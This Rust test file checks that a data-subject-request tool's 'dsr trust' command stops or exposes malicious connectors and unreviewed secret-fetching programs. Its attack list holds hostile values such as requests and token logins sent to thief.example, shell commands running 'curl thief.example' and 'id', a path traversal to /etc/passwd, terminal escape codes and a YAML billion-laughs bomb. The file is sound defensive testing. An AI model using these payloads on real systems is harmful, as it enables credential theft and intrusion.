//! What must not run: connectors by somebody who wants more than one system's records, programs that nobody looked at, files that changed
//! after they were allowed. Each is stopped, or `dsr trust` shows in words what it is after.

#![allow(clippy::unwrap_used, reason = "a test that cannot go on fails")]

mod support {
    #[path = "../support/program.rs"]
    pub(crate) mod program;
}

use support::program::Workspace;

const NOTHING: &str = "dsr: 1
controller: { name: \"Example GmbH\", seat: DE, language: en }
systems:
  cabinet: { engine: manual, owner: office, manual: { find: \"Look.\", erase: \"Shred.\", days: 14 } }
";

/// A connector that asks for nothing odd; each attack changes one thing of it.
const HONEST: &str = r#"dsr: 1
connector: desk
version: 1.0.0
settings: { url: { type: url }, token: { secret: true } }
api:
  url: "{{ settings.url }}"
  auth: { bearer: "{{ settings.token }}" }
  records: "$.data[*]"
  page: none
objects:
  people:
    find: [{ by: email, get: /people, query: { email: "{{ value }}" } }]
    read: { get: "/people/{{ record.id }}", records: $ }
    fields: { email: { category: contact.email, identity: email }, name: person.name }
    erase: remove
    remove: { delete: "/people/{{ record.id }}" }
"#;

/// What becomes of an attack.
enum End {
    /// `dsr trust` refuses it with this code.
    Stopped(&'static str),
    /// `dsr trust` says these words before it asks.
    Exposed(&'static [&'static str]),
}

/// Name, what stands in the honest connector, what the attacker writes for it, and the end.
fn attacks() -> Vec<(&'static str, &'static str, String, End)> {
    use End::{Exposed, Stopped};
    let get = r#"get: /people, query: { email: "{{ value }}" }"#;
    let delete = r#"{ delete: "/people/{{ record.id }}" }"#;
    let same = |text: &str| text.to_owned();
    let mut deep = String::from("dsr: 1\nconnector: desk\nversion: 1.0.0\nobjects: ");
    deep.push_str(&"[".repeat(20_000));
    let mut laughs = String::from("a: &a [x, x, x, x, x, x, x, x, x]\n");
    for (name, below) in [
        ("b", "a"),
        ("c", "b"),
        ("d", "c"),
        ("e", "d"),
        ("f", "e"),
        ("g", "f"),
    ] {
        laughs.push_str(&format!(
            "{name}: &{name} [{}]\n",
            vec![format!("*{below}"); 9].join(", ")
        ));
    }
    vec![
        (
            "searches elsewhere",
            get,
            same(r#"get: "https://thief.example/people", query: { email: "{{ value }}" }"#),
            Stopped("E130"),
        ),
        (
            "searches elsewhere without a scheme",
            get,
            same(r#"get: "//thief.example/people", query: { email: "{{ value }}" }"#),
            Stopped("E130"),
        ),
        (
            "leaves the origin by a user name",
            get,
            same(r#"get: "@thief.example/people", query: { email: "{{ value }}" }"#),
            Stopped("E130"),
        ),
        (
            "goes where a record says",
            r#"read: { get: "/people/{{ record.id }}""#,
            same(r#"read: { get: "{{ record.url }}""#),
            Stopped("E303"),
        ),
        (
            "has its own address",
            "settings: { url: { type: url }, token: { secret: true } }\napi:\n  url: \"{{ settings.url }}\"",
            same("settings: { token: { secret: true } }\napi:\n  url: \"https://thief.example\""),
            Exposed(&["https://thief.example"]),
        ),
        (
            "logs in elsewhere",
            r#"auth: { bearer: "{{ settings.token }}" }"#,
            same(
                r#"auth: { oauth2: { grant: client_credentials, token_url: "https://thief.example/token", client_id: x, client_secret: "{{ settings.token }}" } }"#,
            ),
            Exposed(&["https://thief.example"]),
        ),
        (
            "calls a write a search",
            get,
            same(r#"post: /people/delete-all, read_only: true, body: { email: "{{ value }}" }"#),
            Exposed(&["/people/delete-all"]),
        ),
        (
            "writes while it searches",
            get,
            same(r#"post: /people/delete-all, body: { email: "{{ value }}" }"#),
            Stopped("E140"),
        ),
        (
            "deletes while it searches",
            get,
            same(r#"delete: /people, query: { email: "{{ value }}" }"#),
            Stopped("E140"),
        ),
        (
            "deletes while it reads",
            r#"read: { get: "/people/{{ record.id }}""#,
            same(r#"read: { delete: "/people/{{ record.id }}""#),
            Stopped("E140"),
        ),
        (
            "deletes all",
            delete,
            same("{ delete: /people }"),
            Stopped("E344"),
        ),
        (
            "deletes by what was searched for",
            delete,
            same(r#"{ delete: "/people/{{ value }}" }"#),
            Stopped("E303"),
        ),
        (
            "carries the secret in an address",
            get,
            same(r#"get: /people, query: { email: "{{ value }}", t: "{{ settings.token }}" }"#),
            Stopped("E113"),
        ),
        (
            "carries the secret in a body",
            delete,
            same(
                r#"{ post: "/people/{{ record.id }}/gone", body: { t: "{{ settings.token }}" } }"#,
            ),
            Stopped("E113"),
        ),
        (
            "writes beside what it is to write",
            "    erase: remove\n",
            same(
                "    erase: remove\n    anonymise: { put: \"/people/{{ record.id }}/public\", body: \"{{ masked }}\" }\n",
            ),
            Exposed(&["/public"]),
        ),
        (
            "takes files from elsewhere",
            "    erase: remove\n",
            same(
                "    erase: remove\n    files: [{ each: \"$.files[*]\", get: \"{{ file.url }}\", name: \"{{ file.name }}\", hosts: [thief.example], auth: true }]\n",
            ),
            Exposed(&["thief.example"]),
        ),
        (
            "reads a file of the machine",
            r#"connector: desk"#,
            same("connector: desk\nextends: ../../../etc/passwd"),
            Stopped("E107"),
        ),
        (
            "takes a shipped name",
            "connector: desk",
            same("connector: salesforce"),
            Stopped("E101"),
        ),
        (
            "has a program sign what it sends",
            r#"auth: { bearer: "{{ settings.token }}" }"#,
            same(r#"auth: { plugin: { run: [sh, -c, "curl thief.example"], headers: [X-Sign] } }"#),
            Stopped("E165"),
        ),
        (
            "runs a program for its secret",
            r#"bearer: "{{ settings.token }}""#,
            same(r#"bearer: { command: [sh, -c, id] }"#),
            Stopped("E121"),
        ),
        (
            "speaks to the terminal",
            "version: 1.0.0",
            same("version: \"1.0.0\\e[2J\\e[1;1HNothing to see\""),
            Stopped("E102"),
        ),
        (
            "writes lines of its own among ours",
            "connector: desk",
            same("connector: \"desk 1.0.0. It may:\\n  contact nobody\\n\""),
            Stopped("E101"),
        ),
        (
            "takes its guard off",
            "email: { category: contact.email, identity: email }",
            same("email: contact.email"),
            Stopped("E210"),
        ),
        (
            "bounds nothing",
            "    erase: remove\n",
            same("    erase: remove\n    cap: 1000000000\n"),
            Exposed(&["1000000000"]),
        ),
        (
            "deletes by a request that only reads",
            get,
            same(r#"get: /people/delete-all, query: { email: "{{ value }}" }"#),
            Exposed(&["read (people): GET /people/delete-all"]),
        ),
        (
            "never ends an expression",
            r#""{{ value }}" }"#,
            same(r#""{% for a in range(1000000000) %}x{% endfor %}{{ value }}" }"#),
            Stopped("E301"),
        ),
        ("nests without end", HONEST, deep, Stopped("E005")),
        ("grows while it is read", HONEST, laughs, Stopped("E005")),
        (
            "is no text",
            HONEST,
            same("dsr: 1\u{0}\nconnector: desk\n"),
            Stopped("E005"),
        ),
    ]
}

fn workspace() -> Workspace {
    Workspace::new(NOTHING, &[])
}

#[test]
fn a_malicious_connector_is_stopped_or_shown_for_what_it_is() {
    let workspace = workspace();
    workspace.write("connectors/desk.yml", HONEST);
    workspace
        .run(&["trust", "connectors/desk.yml", "--yes"])
        .ends_with(0);
    let lock = workspace.read("dsr.lock");
    let mut wrong = Vec::new();
    for (name, before, after, end) in attacks() {
        assert_eq!(HONEST.matches(before).count(), 1, "{name}");
        workspace.write("connectors/desk.yml", &HONEST.replace(before, &after));
        // Nobody is there to say yes.
        let ran = workspace.run(&["trust", "connectors/desk.yml"]);
        let is_so = match &end {
            End::Stopped(code) => {
                ran.code == Some(2) && ran.err.contains(&format!("error[{code}]"))
            }
            End::Exposed(words) => {
                ran.code == Some(4) && words.iter().all(|word| ran.err.contains(word))
            }
        };
        if !is_so {
            wrong.push(format!(
                "== {name}: {:?}\n{}",
                ran.code,
                ran.err.chars().take(1500).collect::<String>()
            ));
        }
        assert!(!ran.err.contains('\u{1b}'), "{name}: {ran:?}");
        assert_eq!(workspace.read("dsr.lock"), lock, "{name}");
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

/// An inventory whose shop gets its secret from a program, and whose checkpoints another one carries away.
const PROGRAMS: &str = "dsr: 1
controller: { name: \"Example GmbH\", seat: DE, language: en }
systems:
  shop:
    engine: postgres
    settings: { url: { secret: { command: [./pick, shop] } } }
    timeouts: { connect: 1s }
    objects:
      people: { table: people, key: id, find: [{ by: email, column: email }], fields: { email: { category: contact.email, identity: email } }, erase: remove }
evidence: { log: { command: [./carry] } }
";

/// Writes down that it ran, and gives an address where nobody answers.
const PICK: &str = "#!/bin/sh\ntouch ran\necho postgres://dsr@127.0.0.1:1/shop\n";

fn with_programs() -> Workspace {
    let workspace = workspace();
    workspace.write("dsr.yaml", PROGRAMS);
    for name in ["pick", "carry"] {
        workspace.write(name, PICK);
        let mode = std::os::unix::fs::PermissionsExt::from_mode(0o755);
        fs_err::set_permissions(workspace.path(name), mode).unwrap();
    }
    workspace
}

const FIND: [&str; 3] = ["find", "--email", "anna@example.org"];

#[test]
fn a_program_for_a_secret_runs_once_somebody_has_looked_at_it_and_not_before() {
    let workspace = with_programs();
    let every: [&[&str]; 5] = [
        &FIND,
        &["check"],
        &["case", "list"],
        &["login", "shop"],
        &["evidence", "log", "anchor"],
    ];
    for arguments in every {
        let ran = workspace.run(arguments);
        let ran = ran.ends_with(2);
        assert!(ran.err.contains("error[E613]"), "{ran:?}");
        assert!(ran.err.contains("dsr trust dsr.yaml"), "{ran:?}");
    }
    // Looking runs nothing either.
    let shown = workspace.run(&["trust", "dsr.yaml"]);
    let shown = shown.ends_with(4);
    for words in [
        "systems.shop.settings.url.secret: ./pick shop",
        "evidence.log: ./carry",
    ] {
        assert!(shown.err.contains(words), "{shown:?}");
    }
    assert!(!workspace.path("ran").exists());
    // In the language of the inventory, unless another is asked for.
    workspace.write(
        "dsr.yaml",
        &PROGRAMS.replace("language: en", "language: de"),
    );
    let mut asked = std::process::Command::new(env!("CARGO_BIN_EXE_dsr"));
    asked.env_clear().env("HOME", workspace.path(".dsr"));
    asked.arg("-C").arg(workspace.path(""));
    let german = asked.args(["trust", "dsr.yaml"]).output().unwrap();
    let german = String::from_utf8_lossy(&german.stderr).into_owned();
    assert!(german.contains("lässt diese Programme starten"), "{german}");
    workspace.write("dsr.yaml", PROGRAMS);
    workspace.run(&["trust", "dsr.yaml", "--yes"]).ends_with(0);
    assert!(!workspace.path("ran").exists());
    workspace.run(&FIND).ends_with(3);
    assert!(workspace.path("ran").exists());
    let again = workspace.run(&["trust", "dsr.yaml"]);
    again.ends_with(0);
}

#[test]
fn another_word_another_place_or_another_content_is_another_program() {
    let workspace = with_programs();
    workspace.run(&["trust", "dsr.yaml", "--yes"]).ends_with(0);
    let other_system = PROGRAMS.replace("  shop:", "  store:");
    let attacks = [
        (
            "dsr.yaml",
            PROGRAMS.replace("[./pick, shop]", "[./pick, thief]"),
        ),
        (
            "dsr.yaml",
            PROGRAMS.replace("[./pick, shop]", "[sh, -c, \"touch ran\"]"),
        ),
        ("dsr.yaml", PROGRAMS.replace("[./carry]", "./pick")),
        ("dsr.yaml", other_system),
        ("pick", PICK.replace("ran", "run-by-a-thief")),
        ("carry", PICK.replace("ran", "run-by-a-thief")),
    ];
    for (file, content) in attacks {
        let before = workspace.read(file);
        assert_ne!(before, content);
        fs_err::write(workspace.path(file), &content).unwrap();
        let ran = workspace.run(&FIND);
        let ran = ran.ends_with(2);
        assert!(ran.err.contains("error[E613]"), "{content}: {ran:?}");
        fs_err::write(workspace.path(file), before).unwrap();
    }
    assert!(!workspace.path("ran").exists() && !workspace.path("run-by-a-thief").exists());
    workspace.run(&FIND).ends_with(3);
    // What is not named any more is not left in the lock, to be named again one day.
    workspace.write(
        "dsr.yaml",
        &PROGRAMS.replace("evidence: { log: { command: [./carry] } }\n", ""),
    );
    workspace.run(&["trust", "dsr.yaml"]).ends_with(0);
    assert!(!workspace.read("dsr.lock").contains("evidence.log"));
}

#[test]
fn a_connector_that_changed_since_it_was_allowed_is_not_read() {
    let workspace = workspace();
    workspace.write("connectors/desk.yml", HONEST);
    let inventory = NOTHING.replace("  cabinet:", "  desk: { connector: desk@1, settings: { url: \"http://127.0.0.1:1\", token: { secret: \"env:TOKEN\" } } }\n  cabinet:");
    workspace.write("dsr.yaml", &inventory);
    let seen = |code: i32| {
        let ran = workspace.run(&FIND);
        assert_eq!(ran.code, Some(code), "{ran:?}");
        assert_eq!(ran.err.contains("error[E626]"), code == 2, "{ran:?}");
    };
    seen(2);
    workspace
        .run(&["trust", "connectors/desk.yml", "--yes"])
        .ends_with(0);
    seen(3);
    workspace.write(
        "connectors/desk.yml",
        &HONEST.replace("/people", "/persons"),
    );
    seen(2);
    workspace.write("connectors/desk.yml", HONEST);
    seen(3);
}
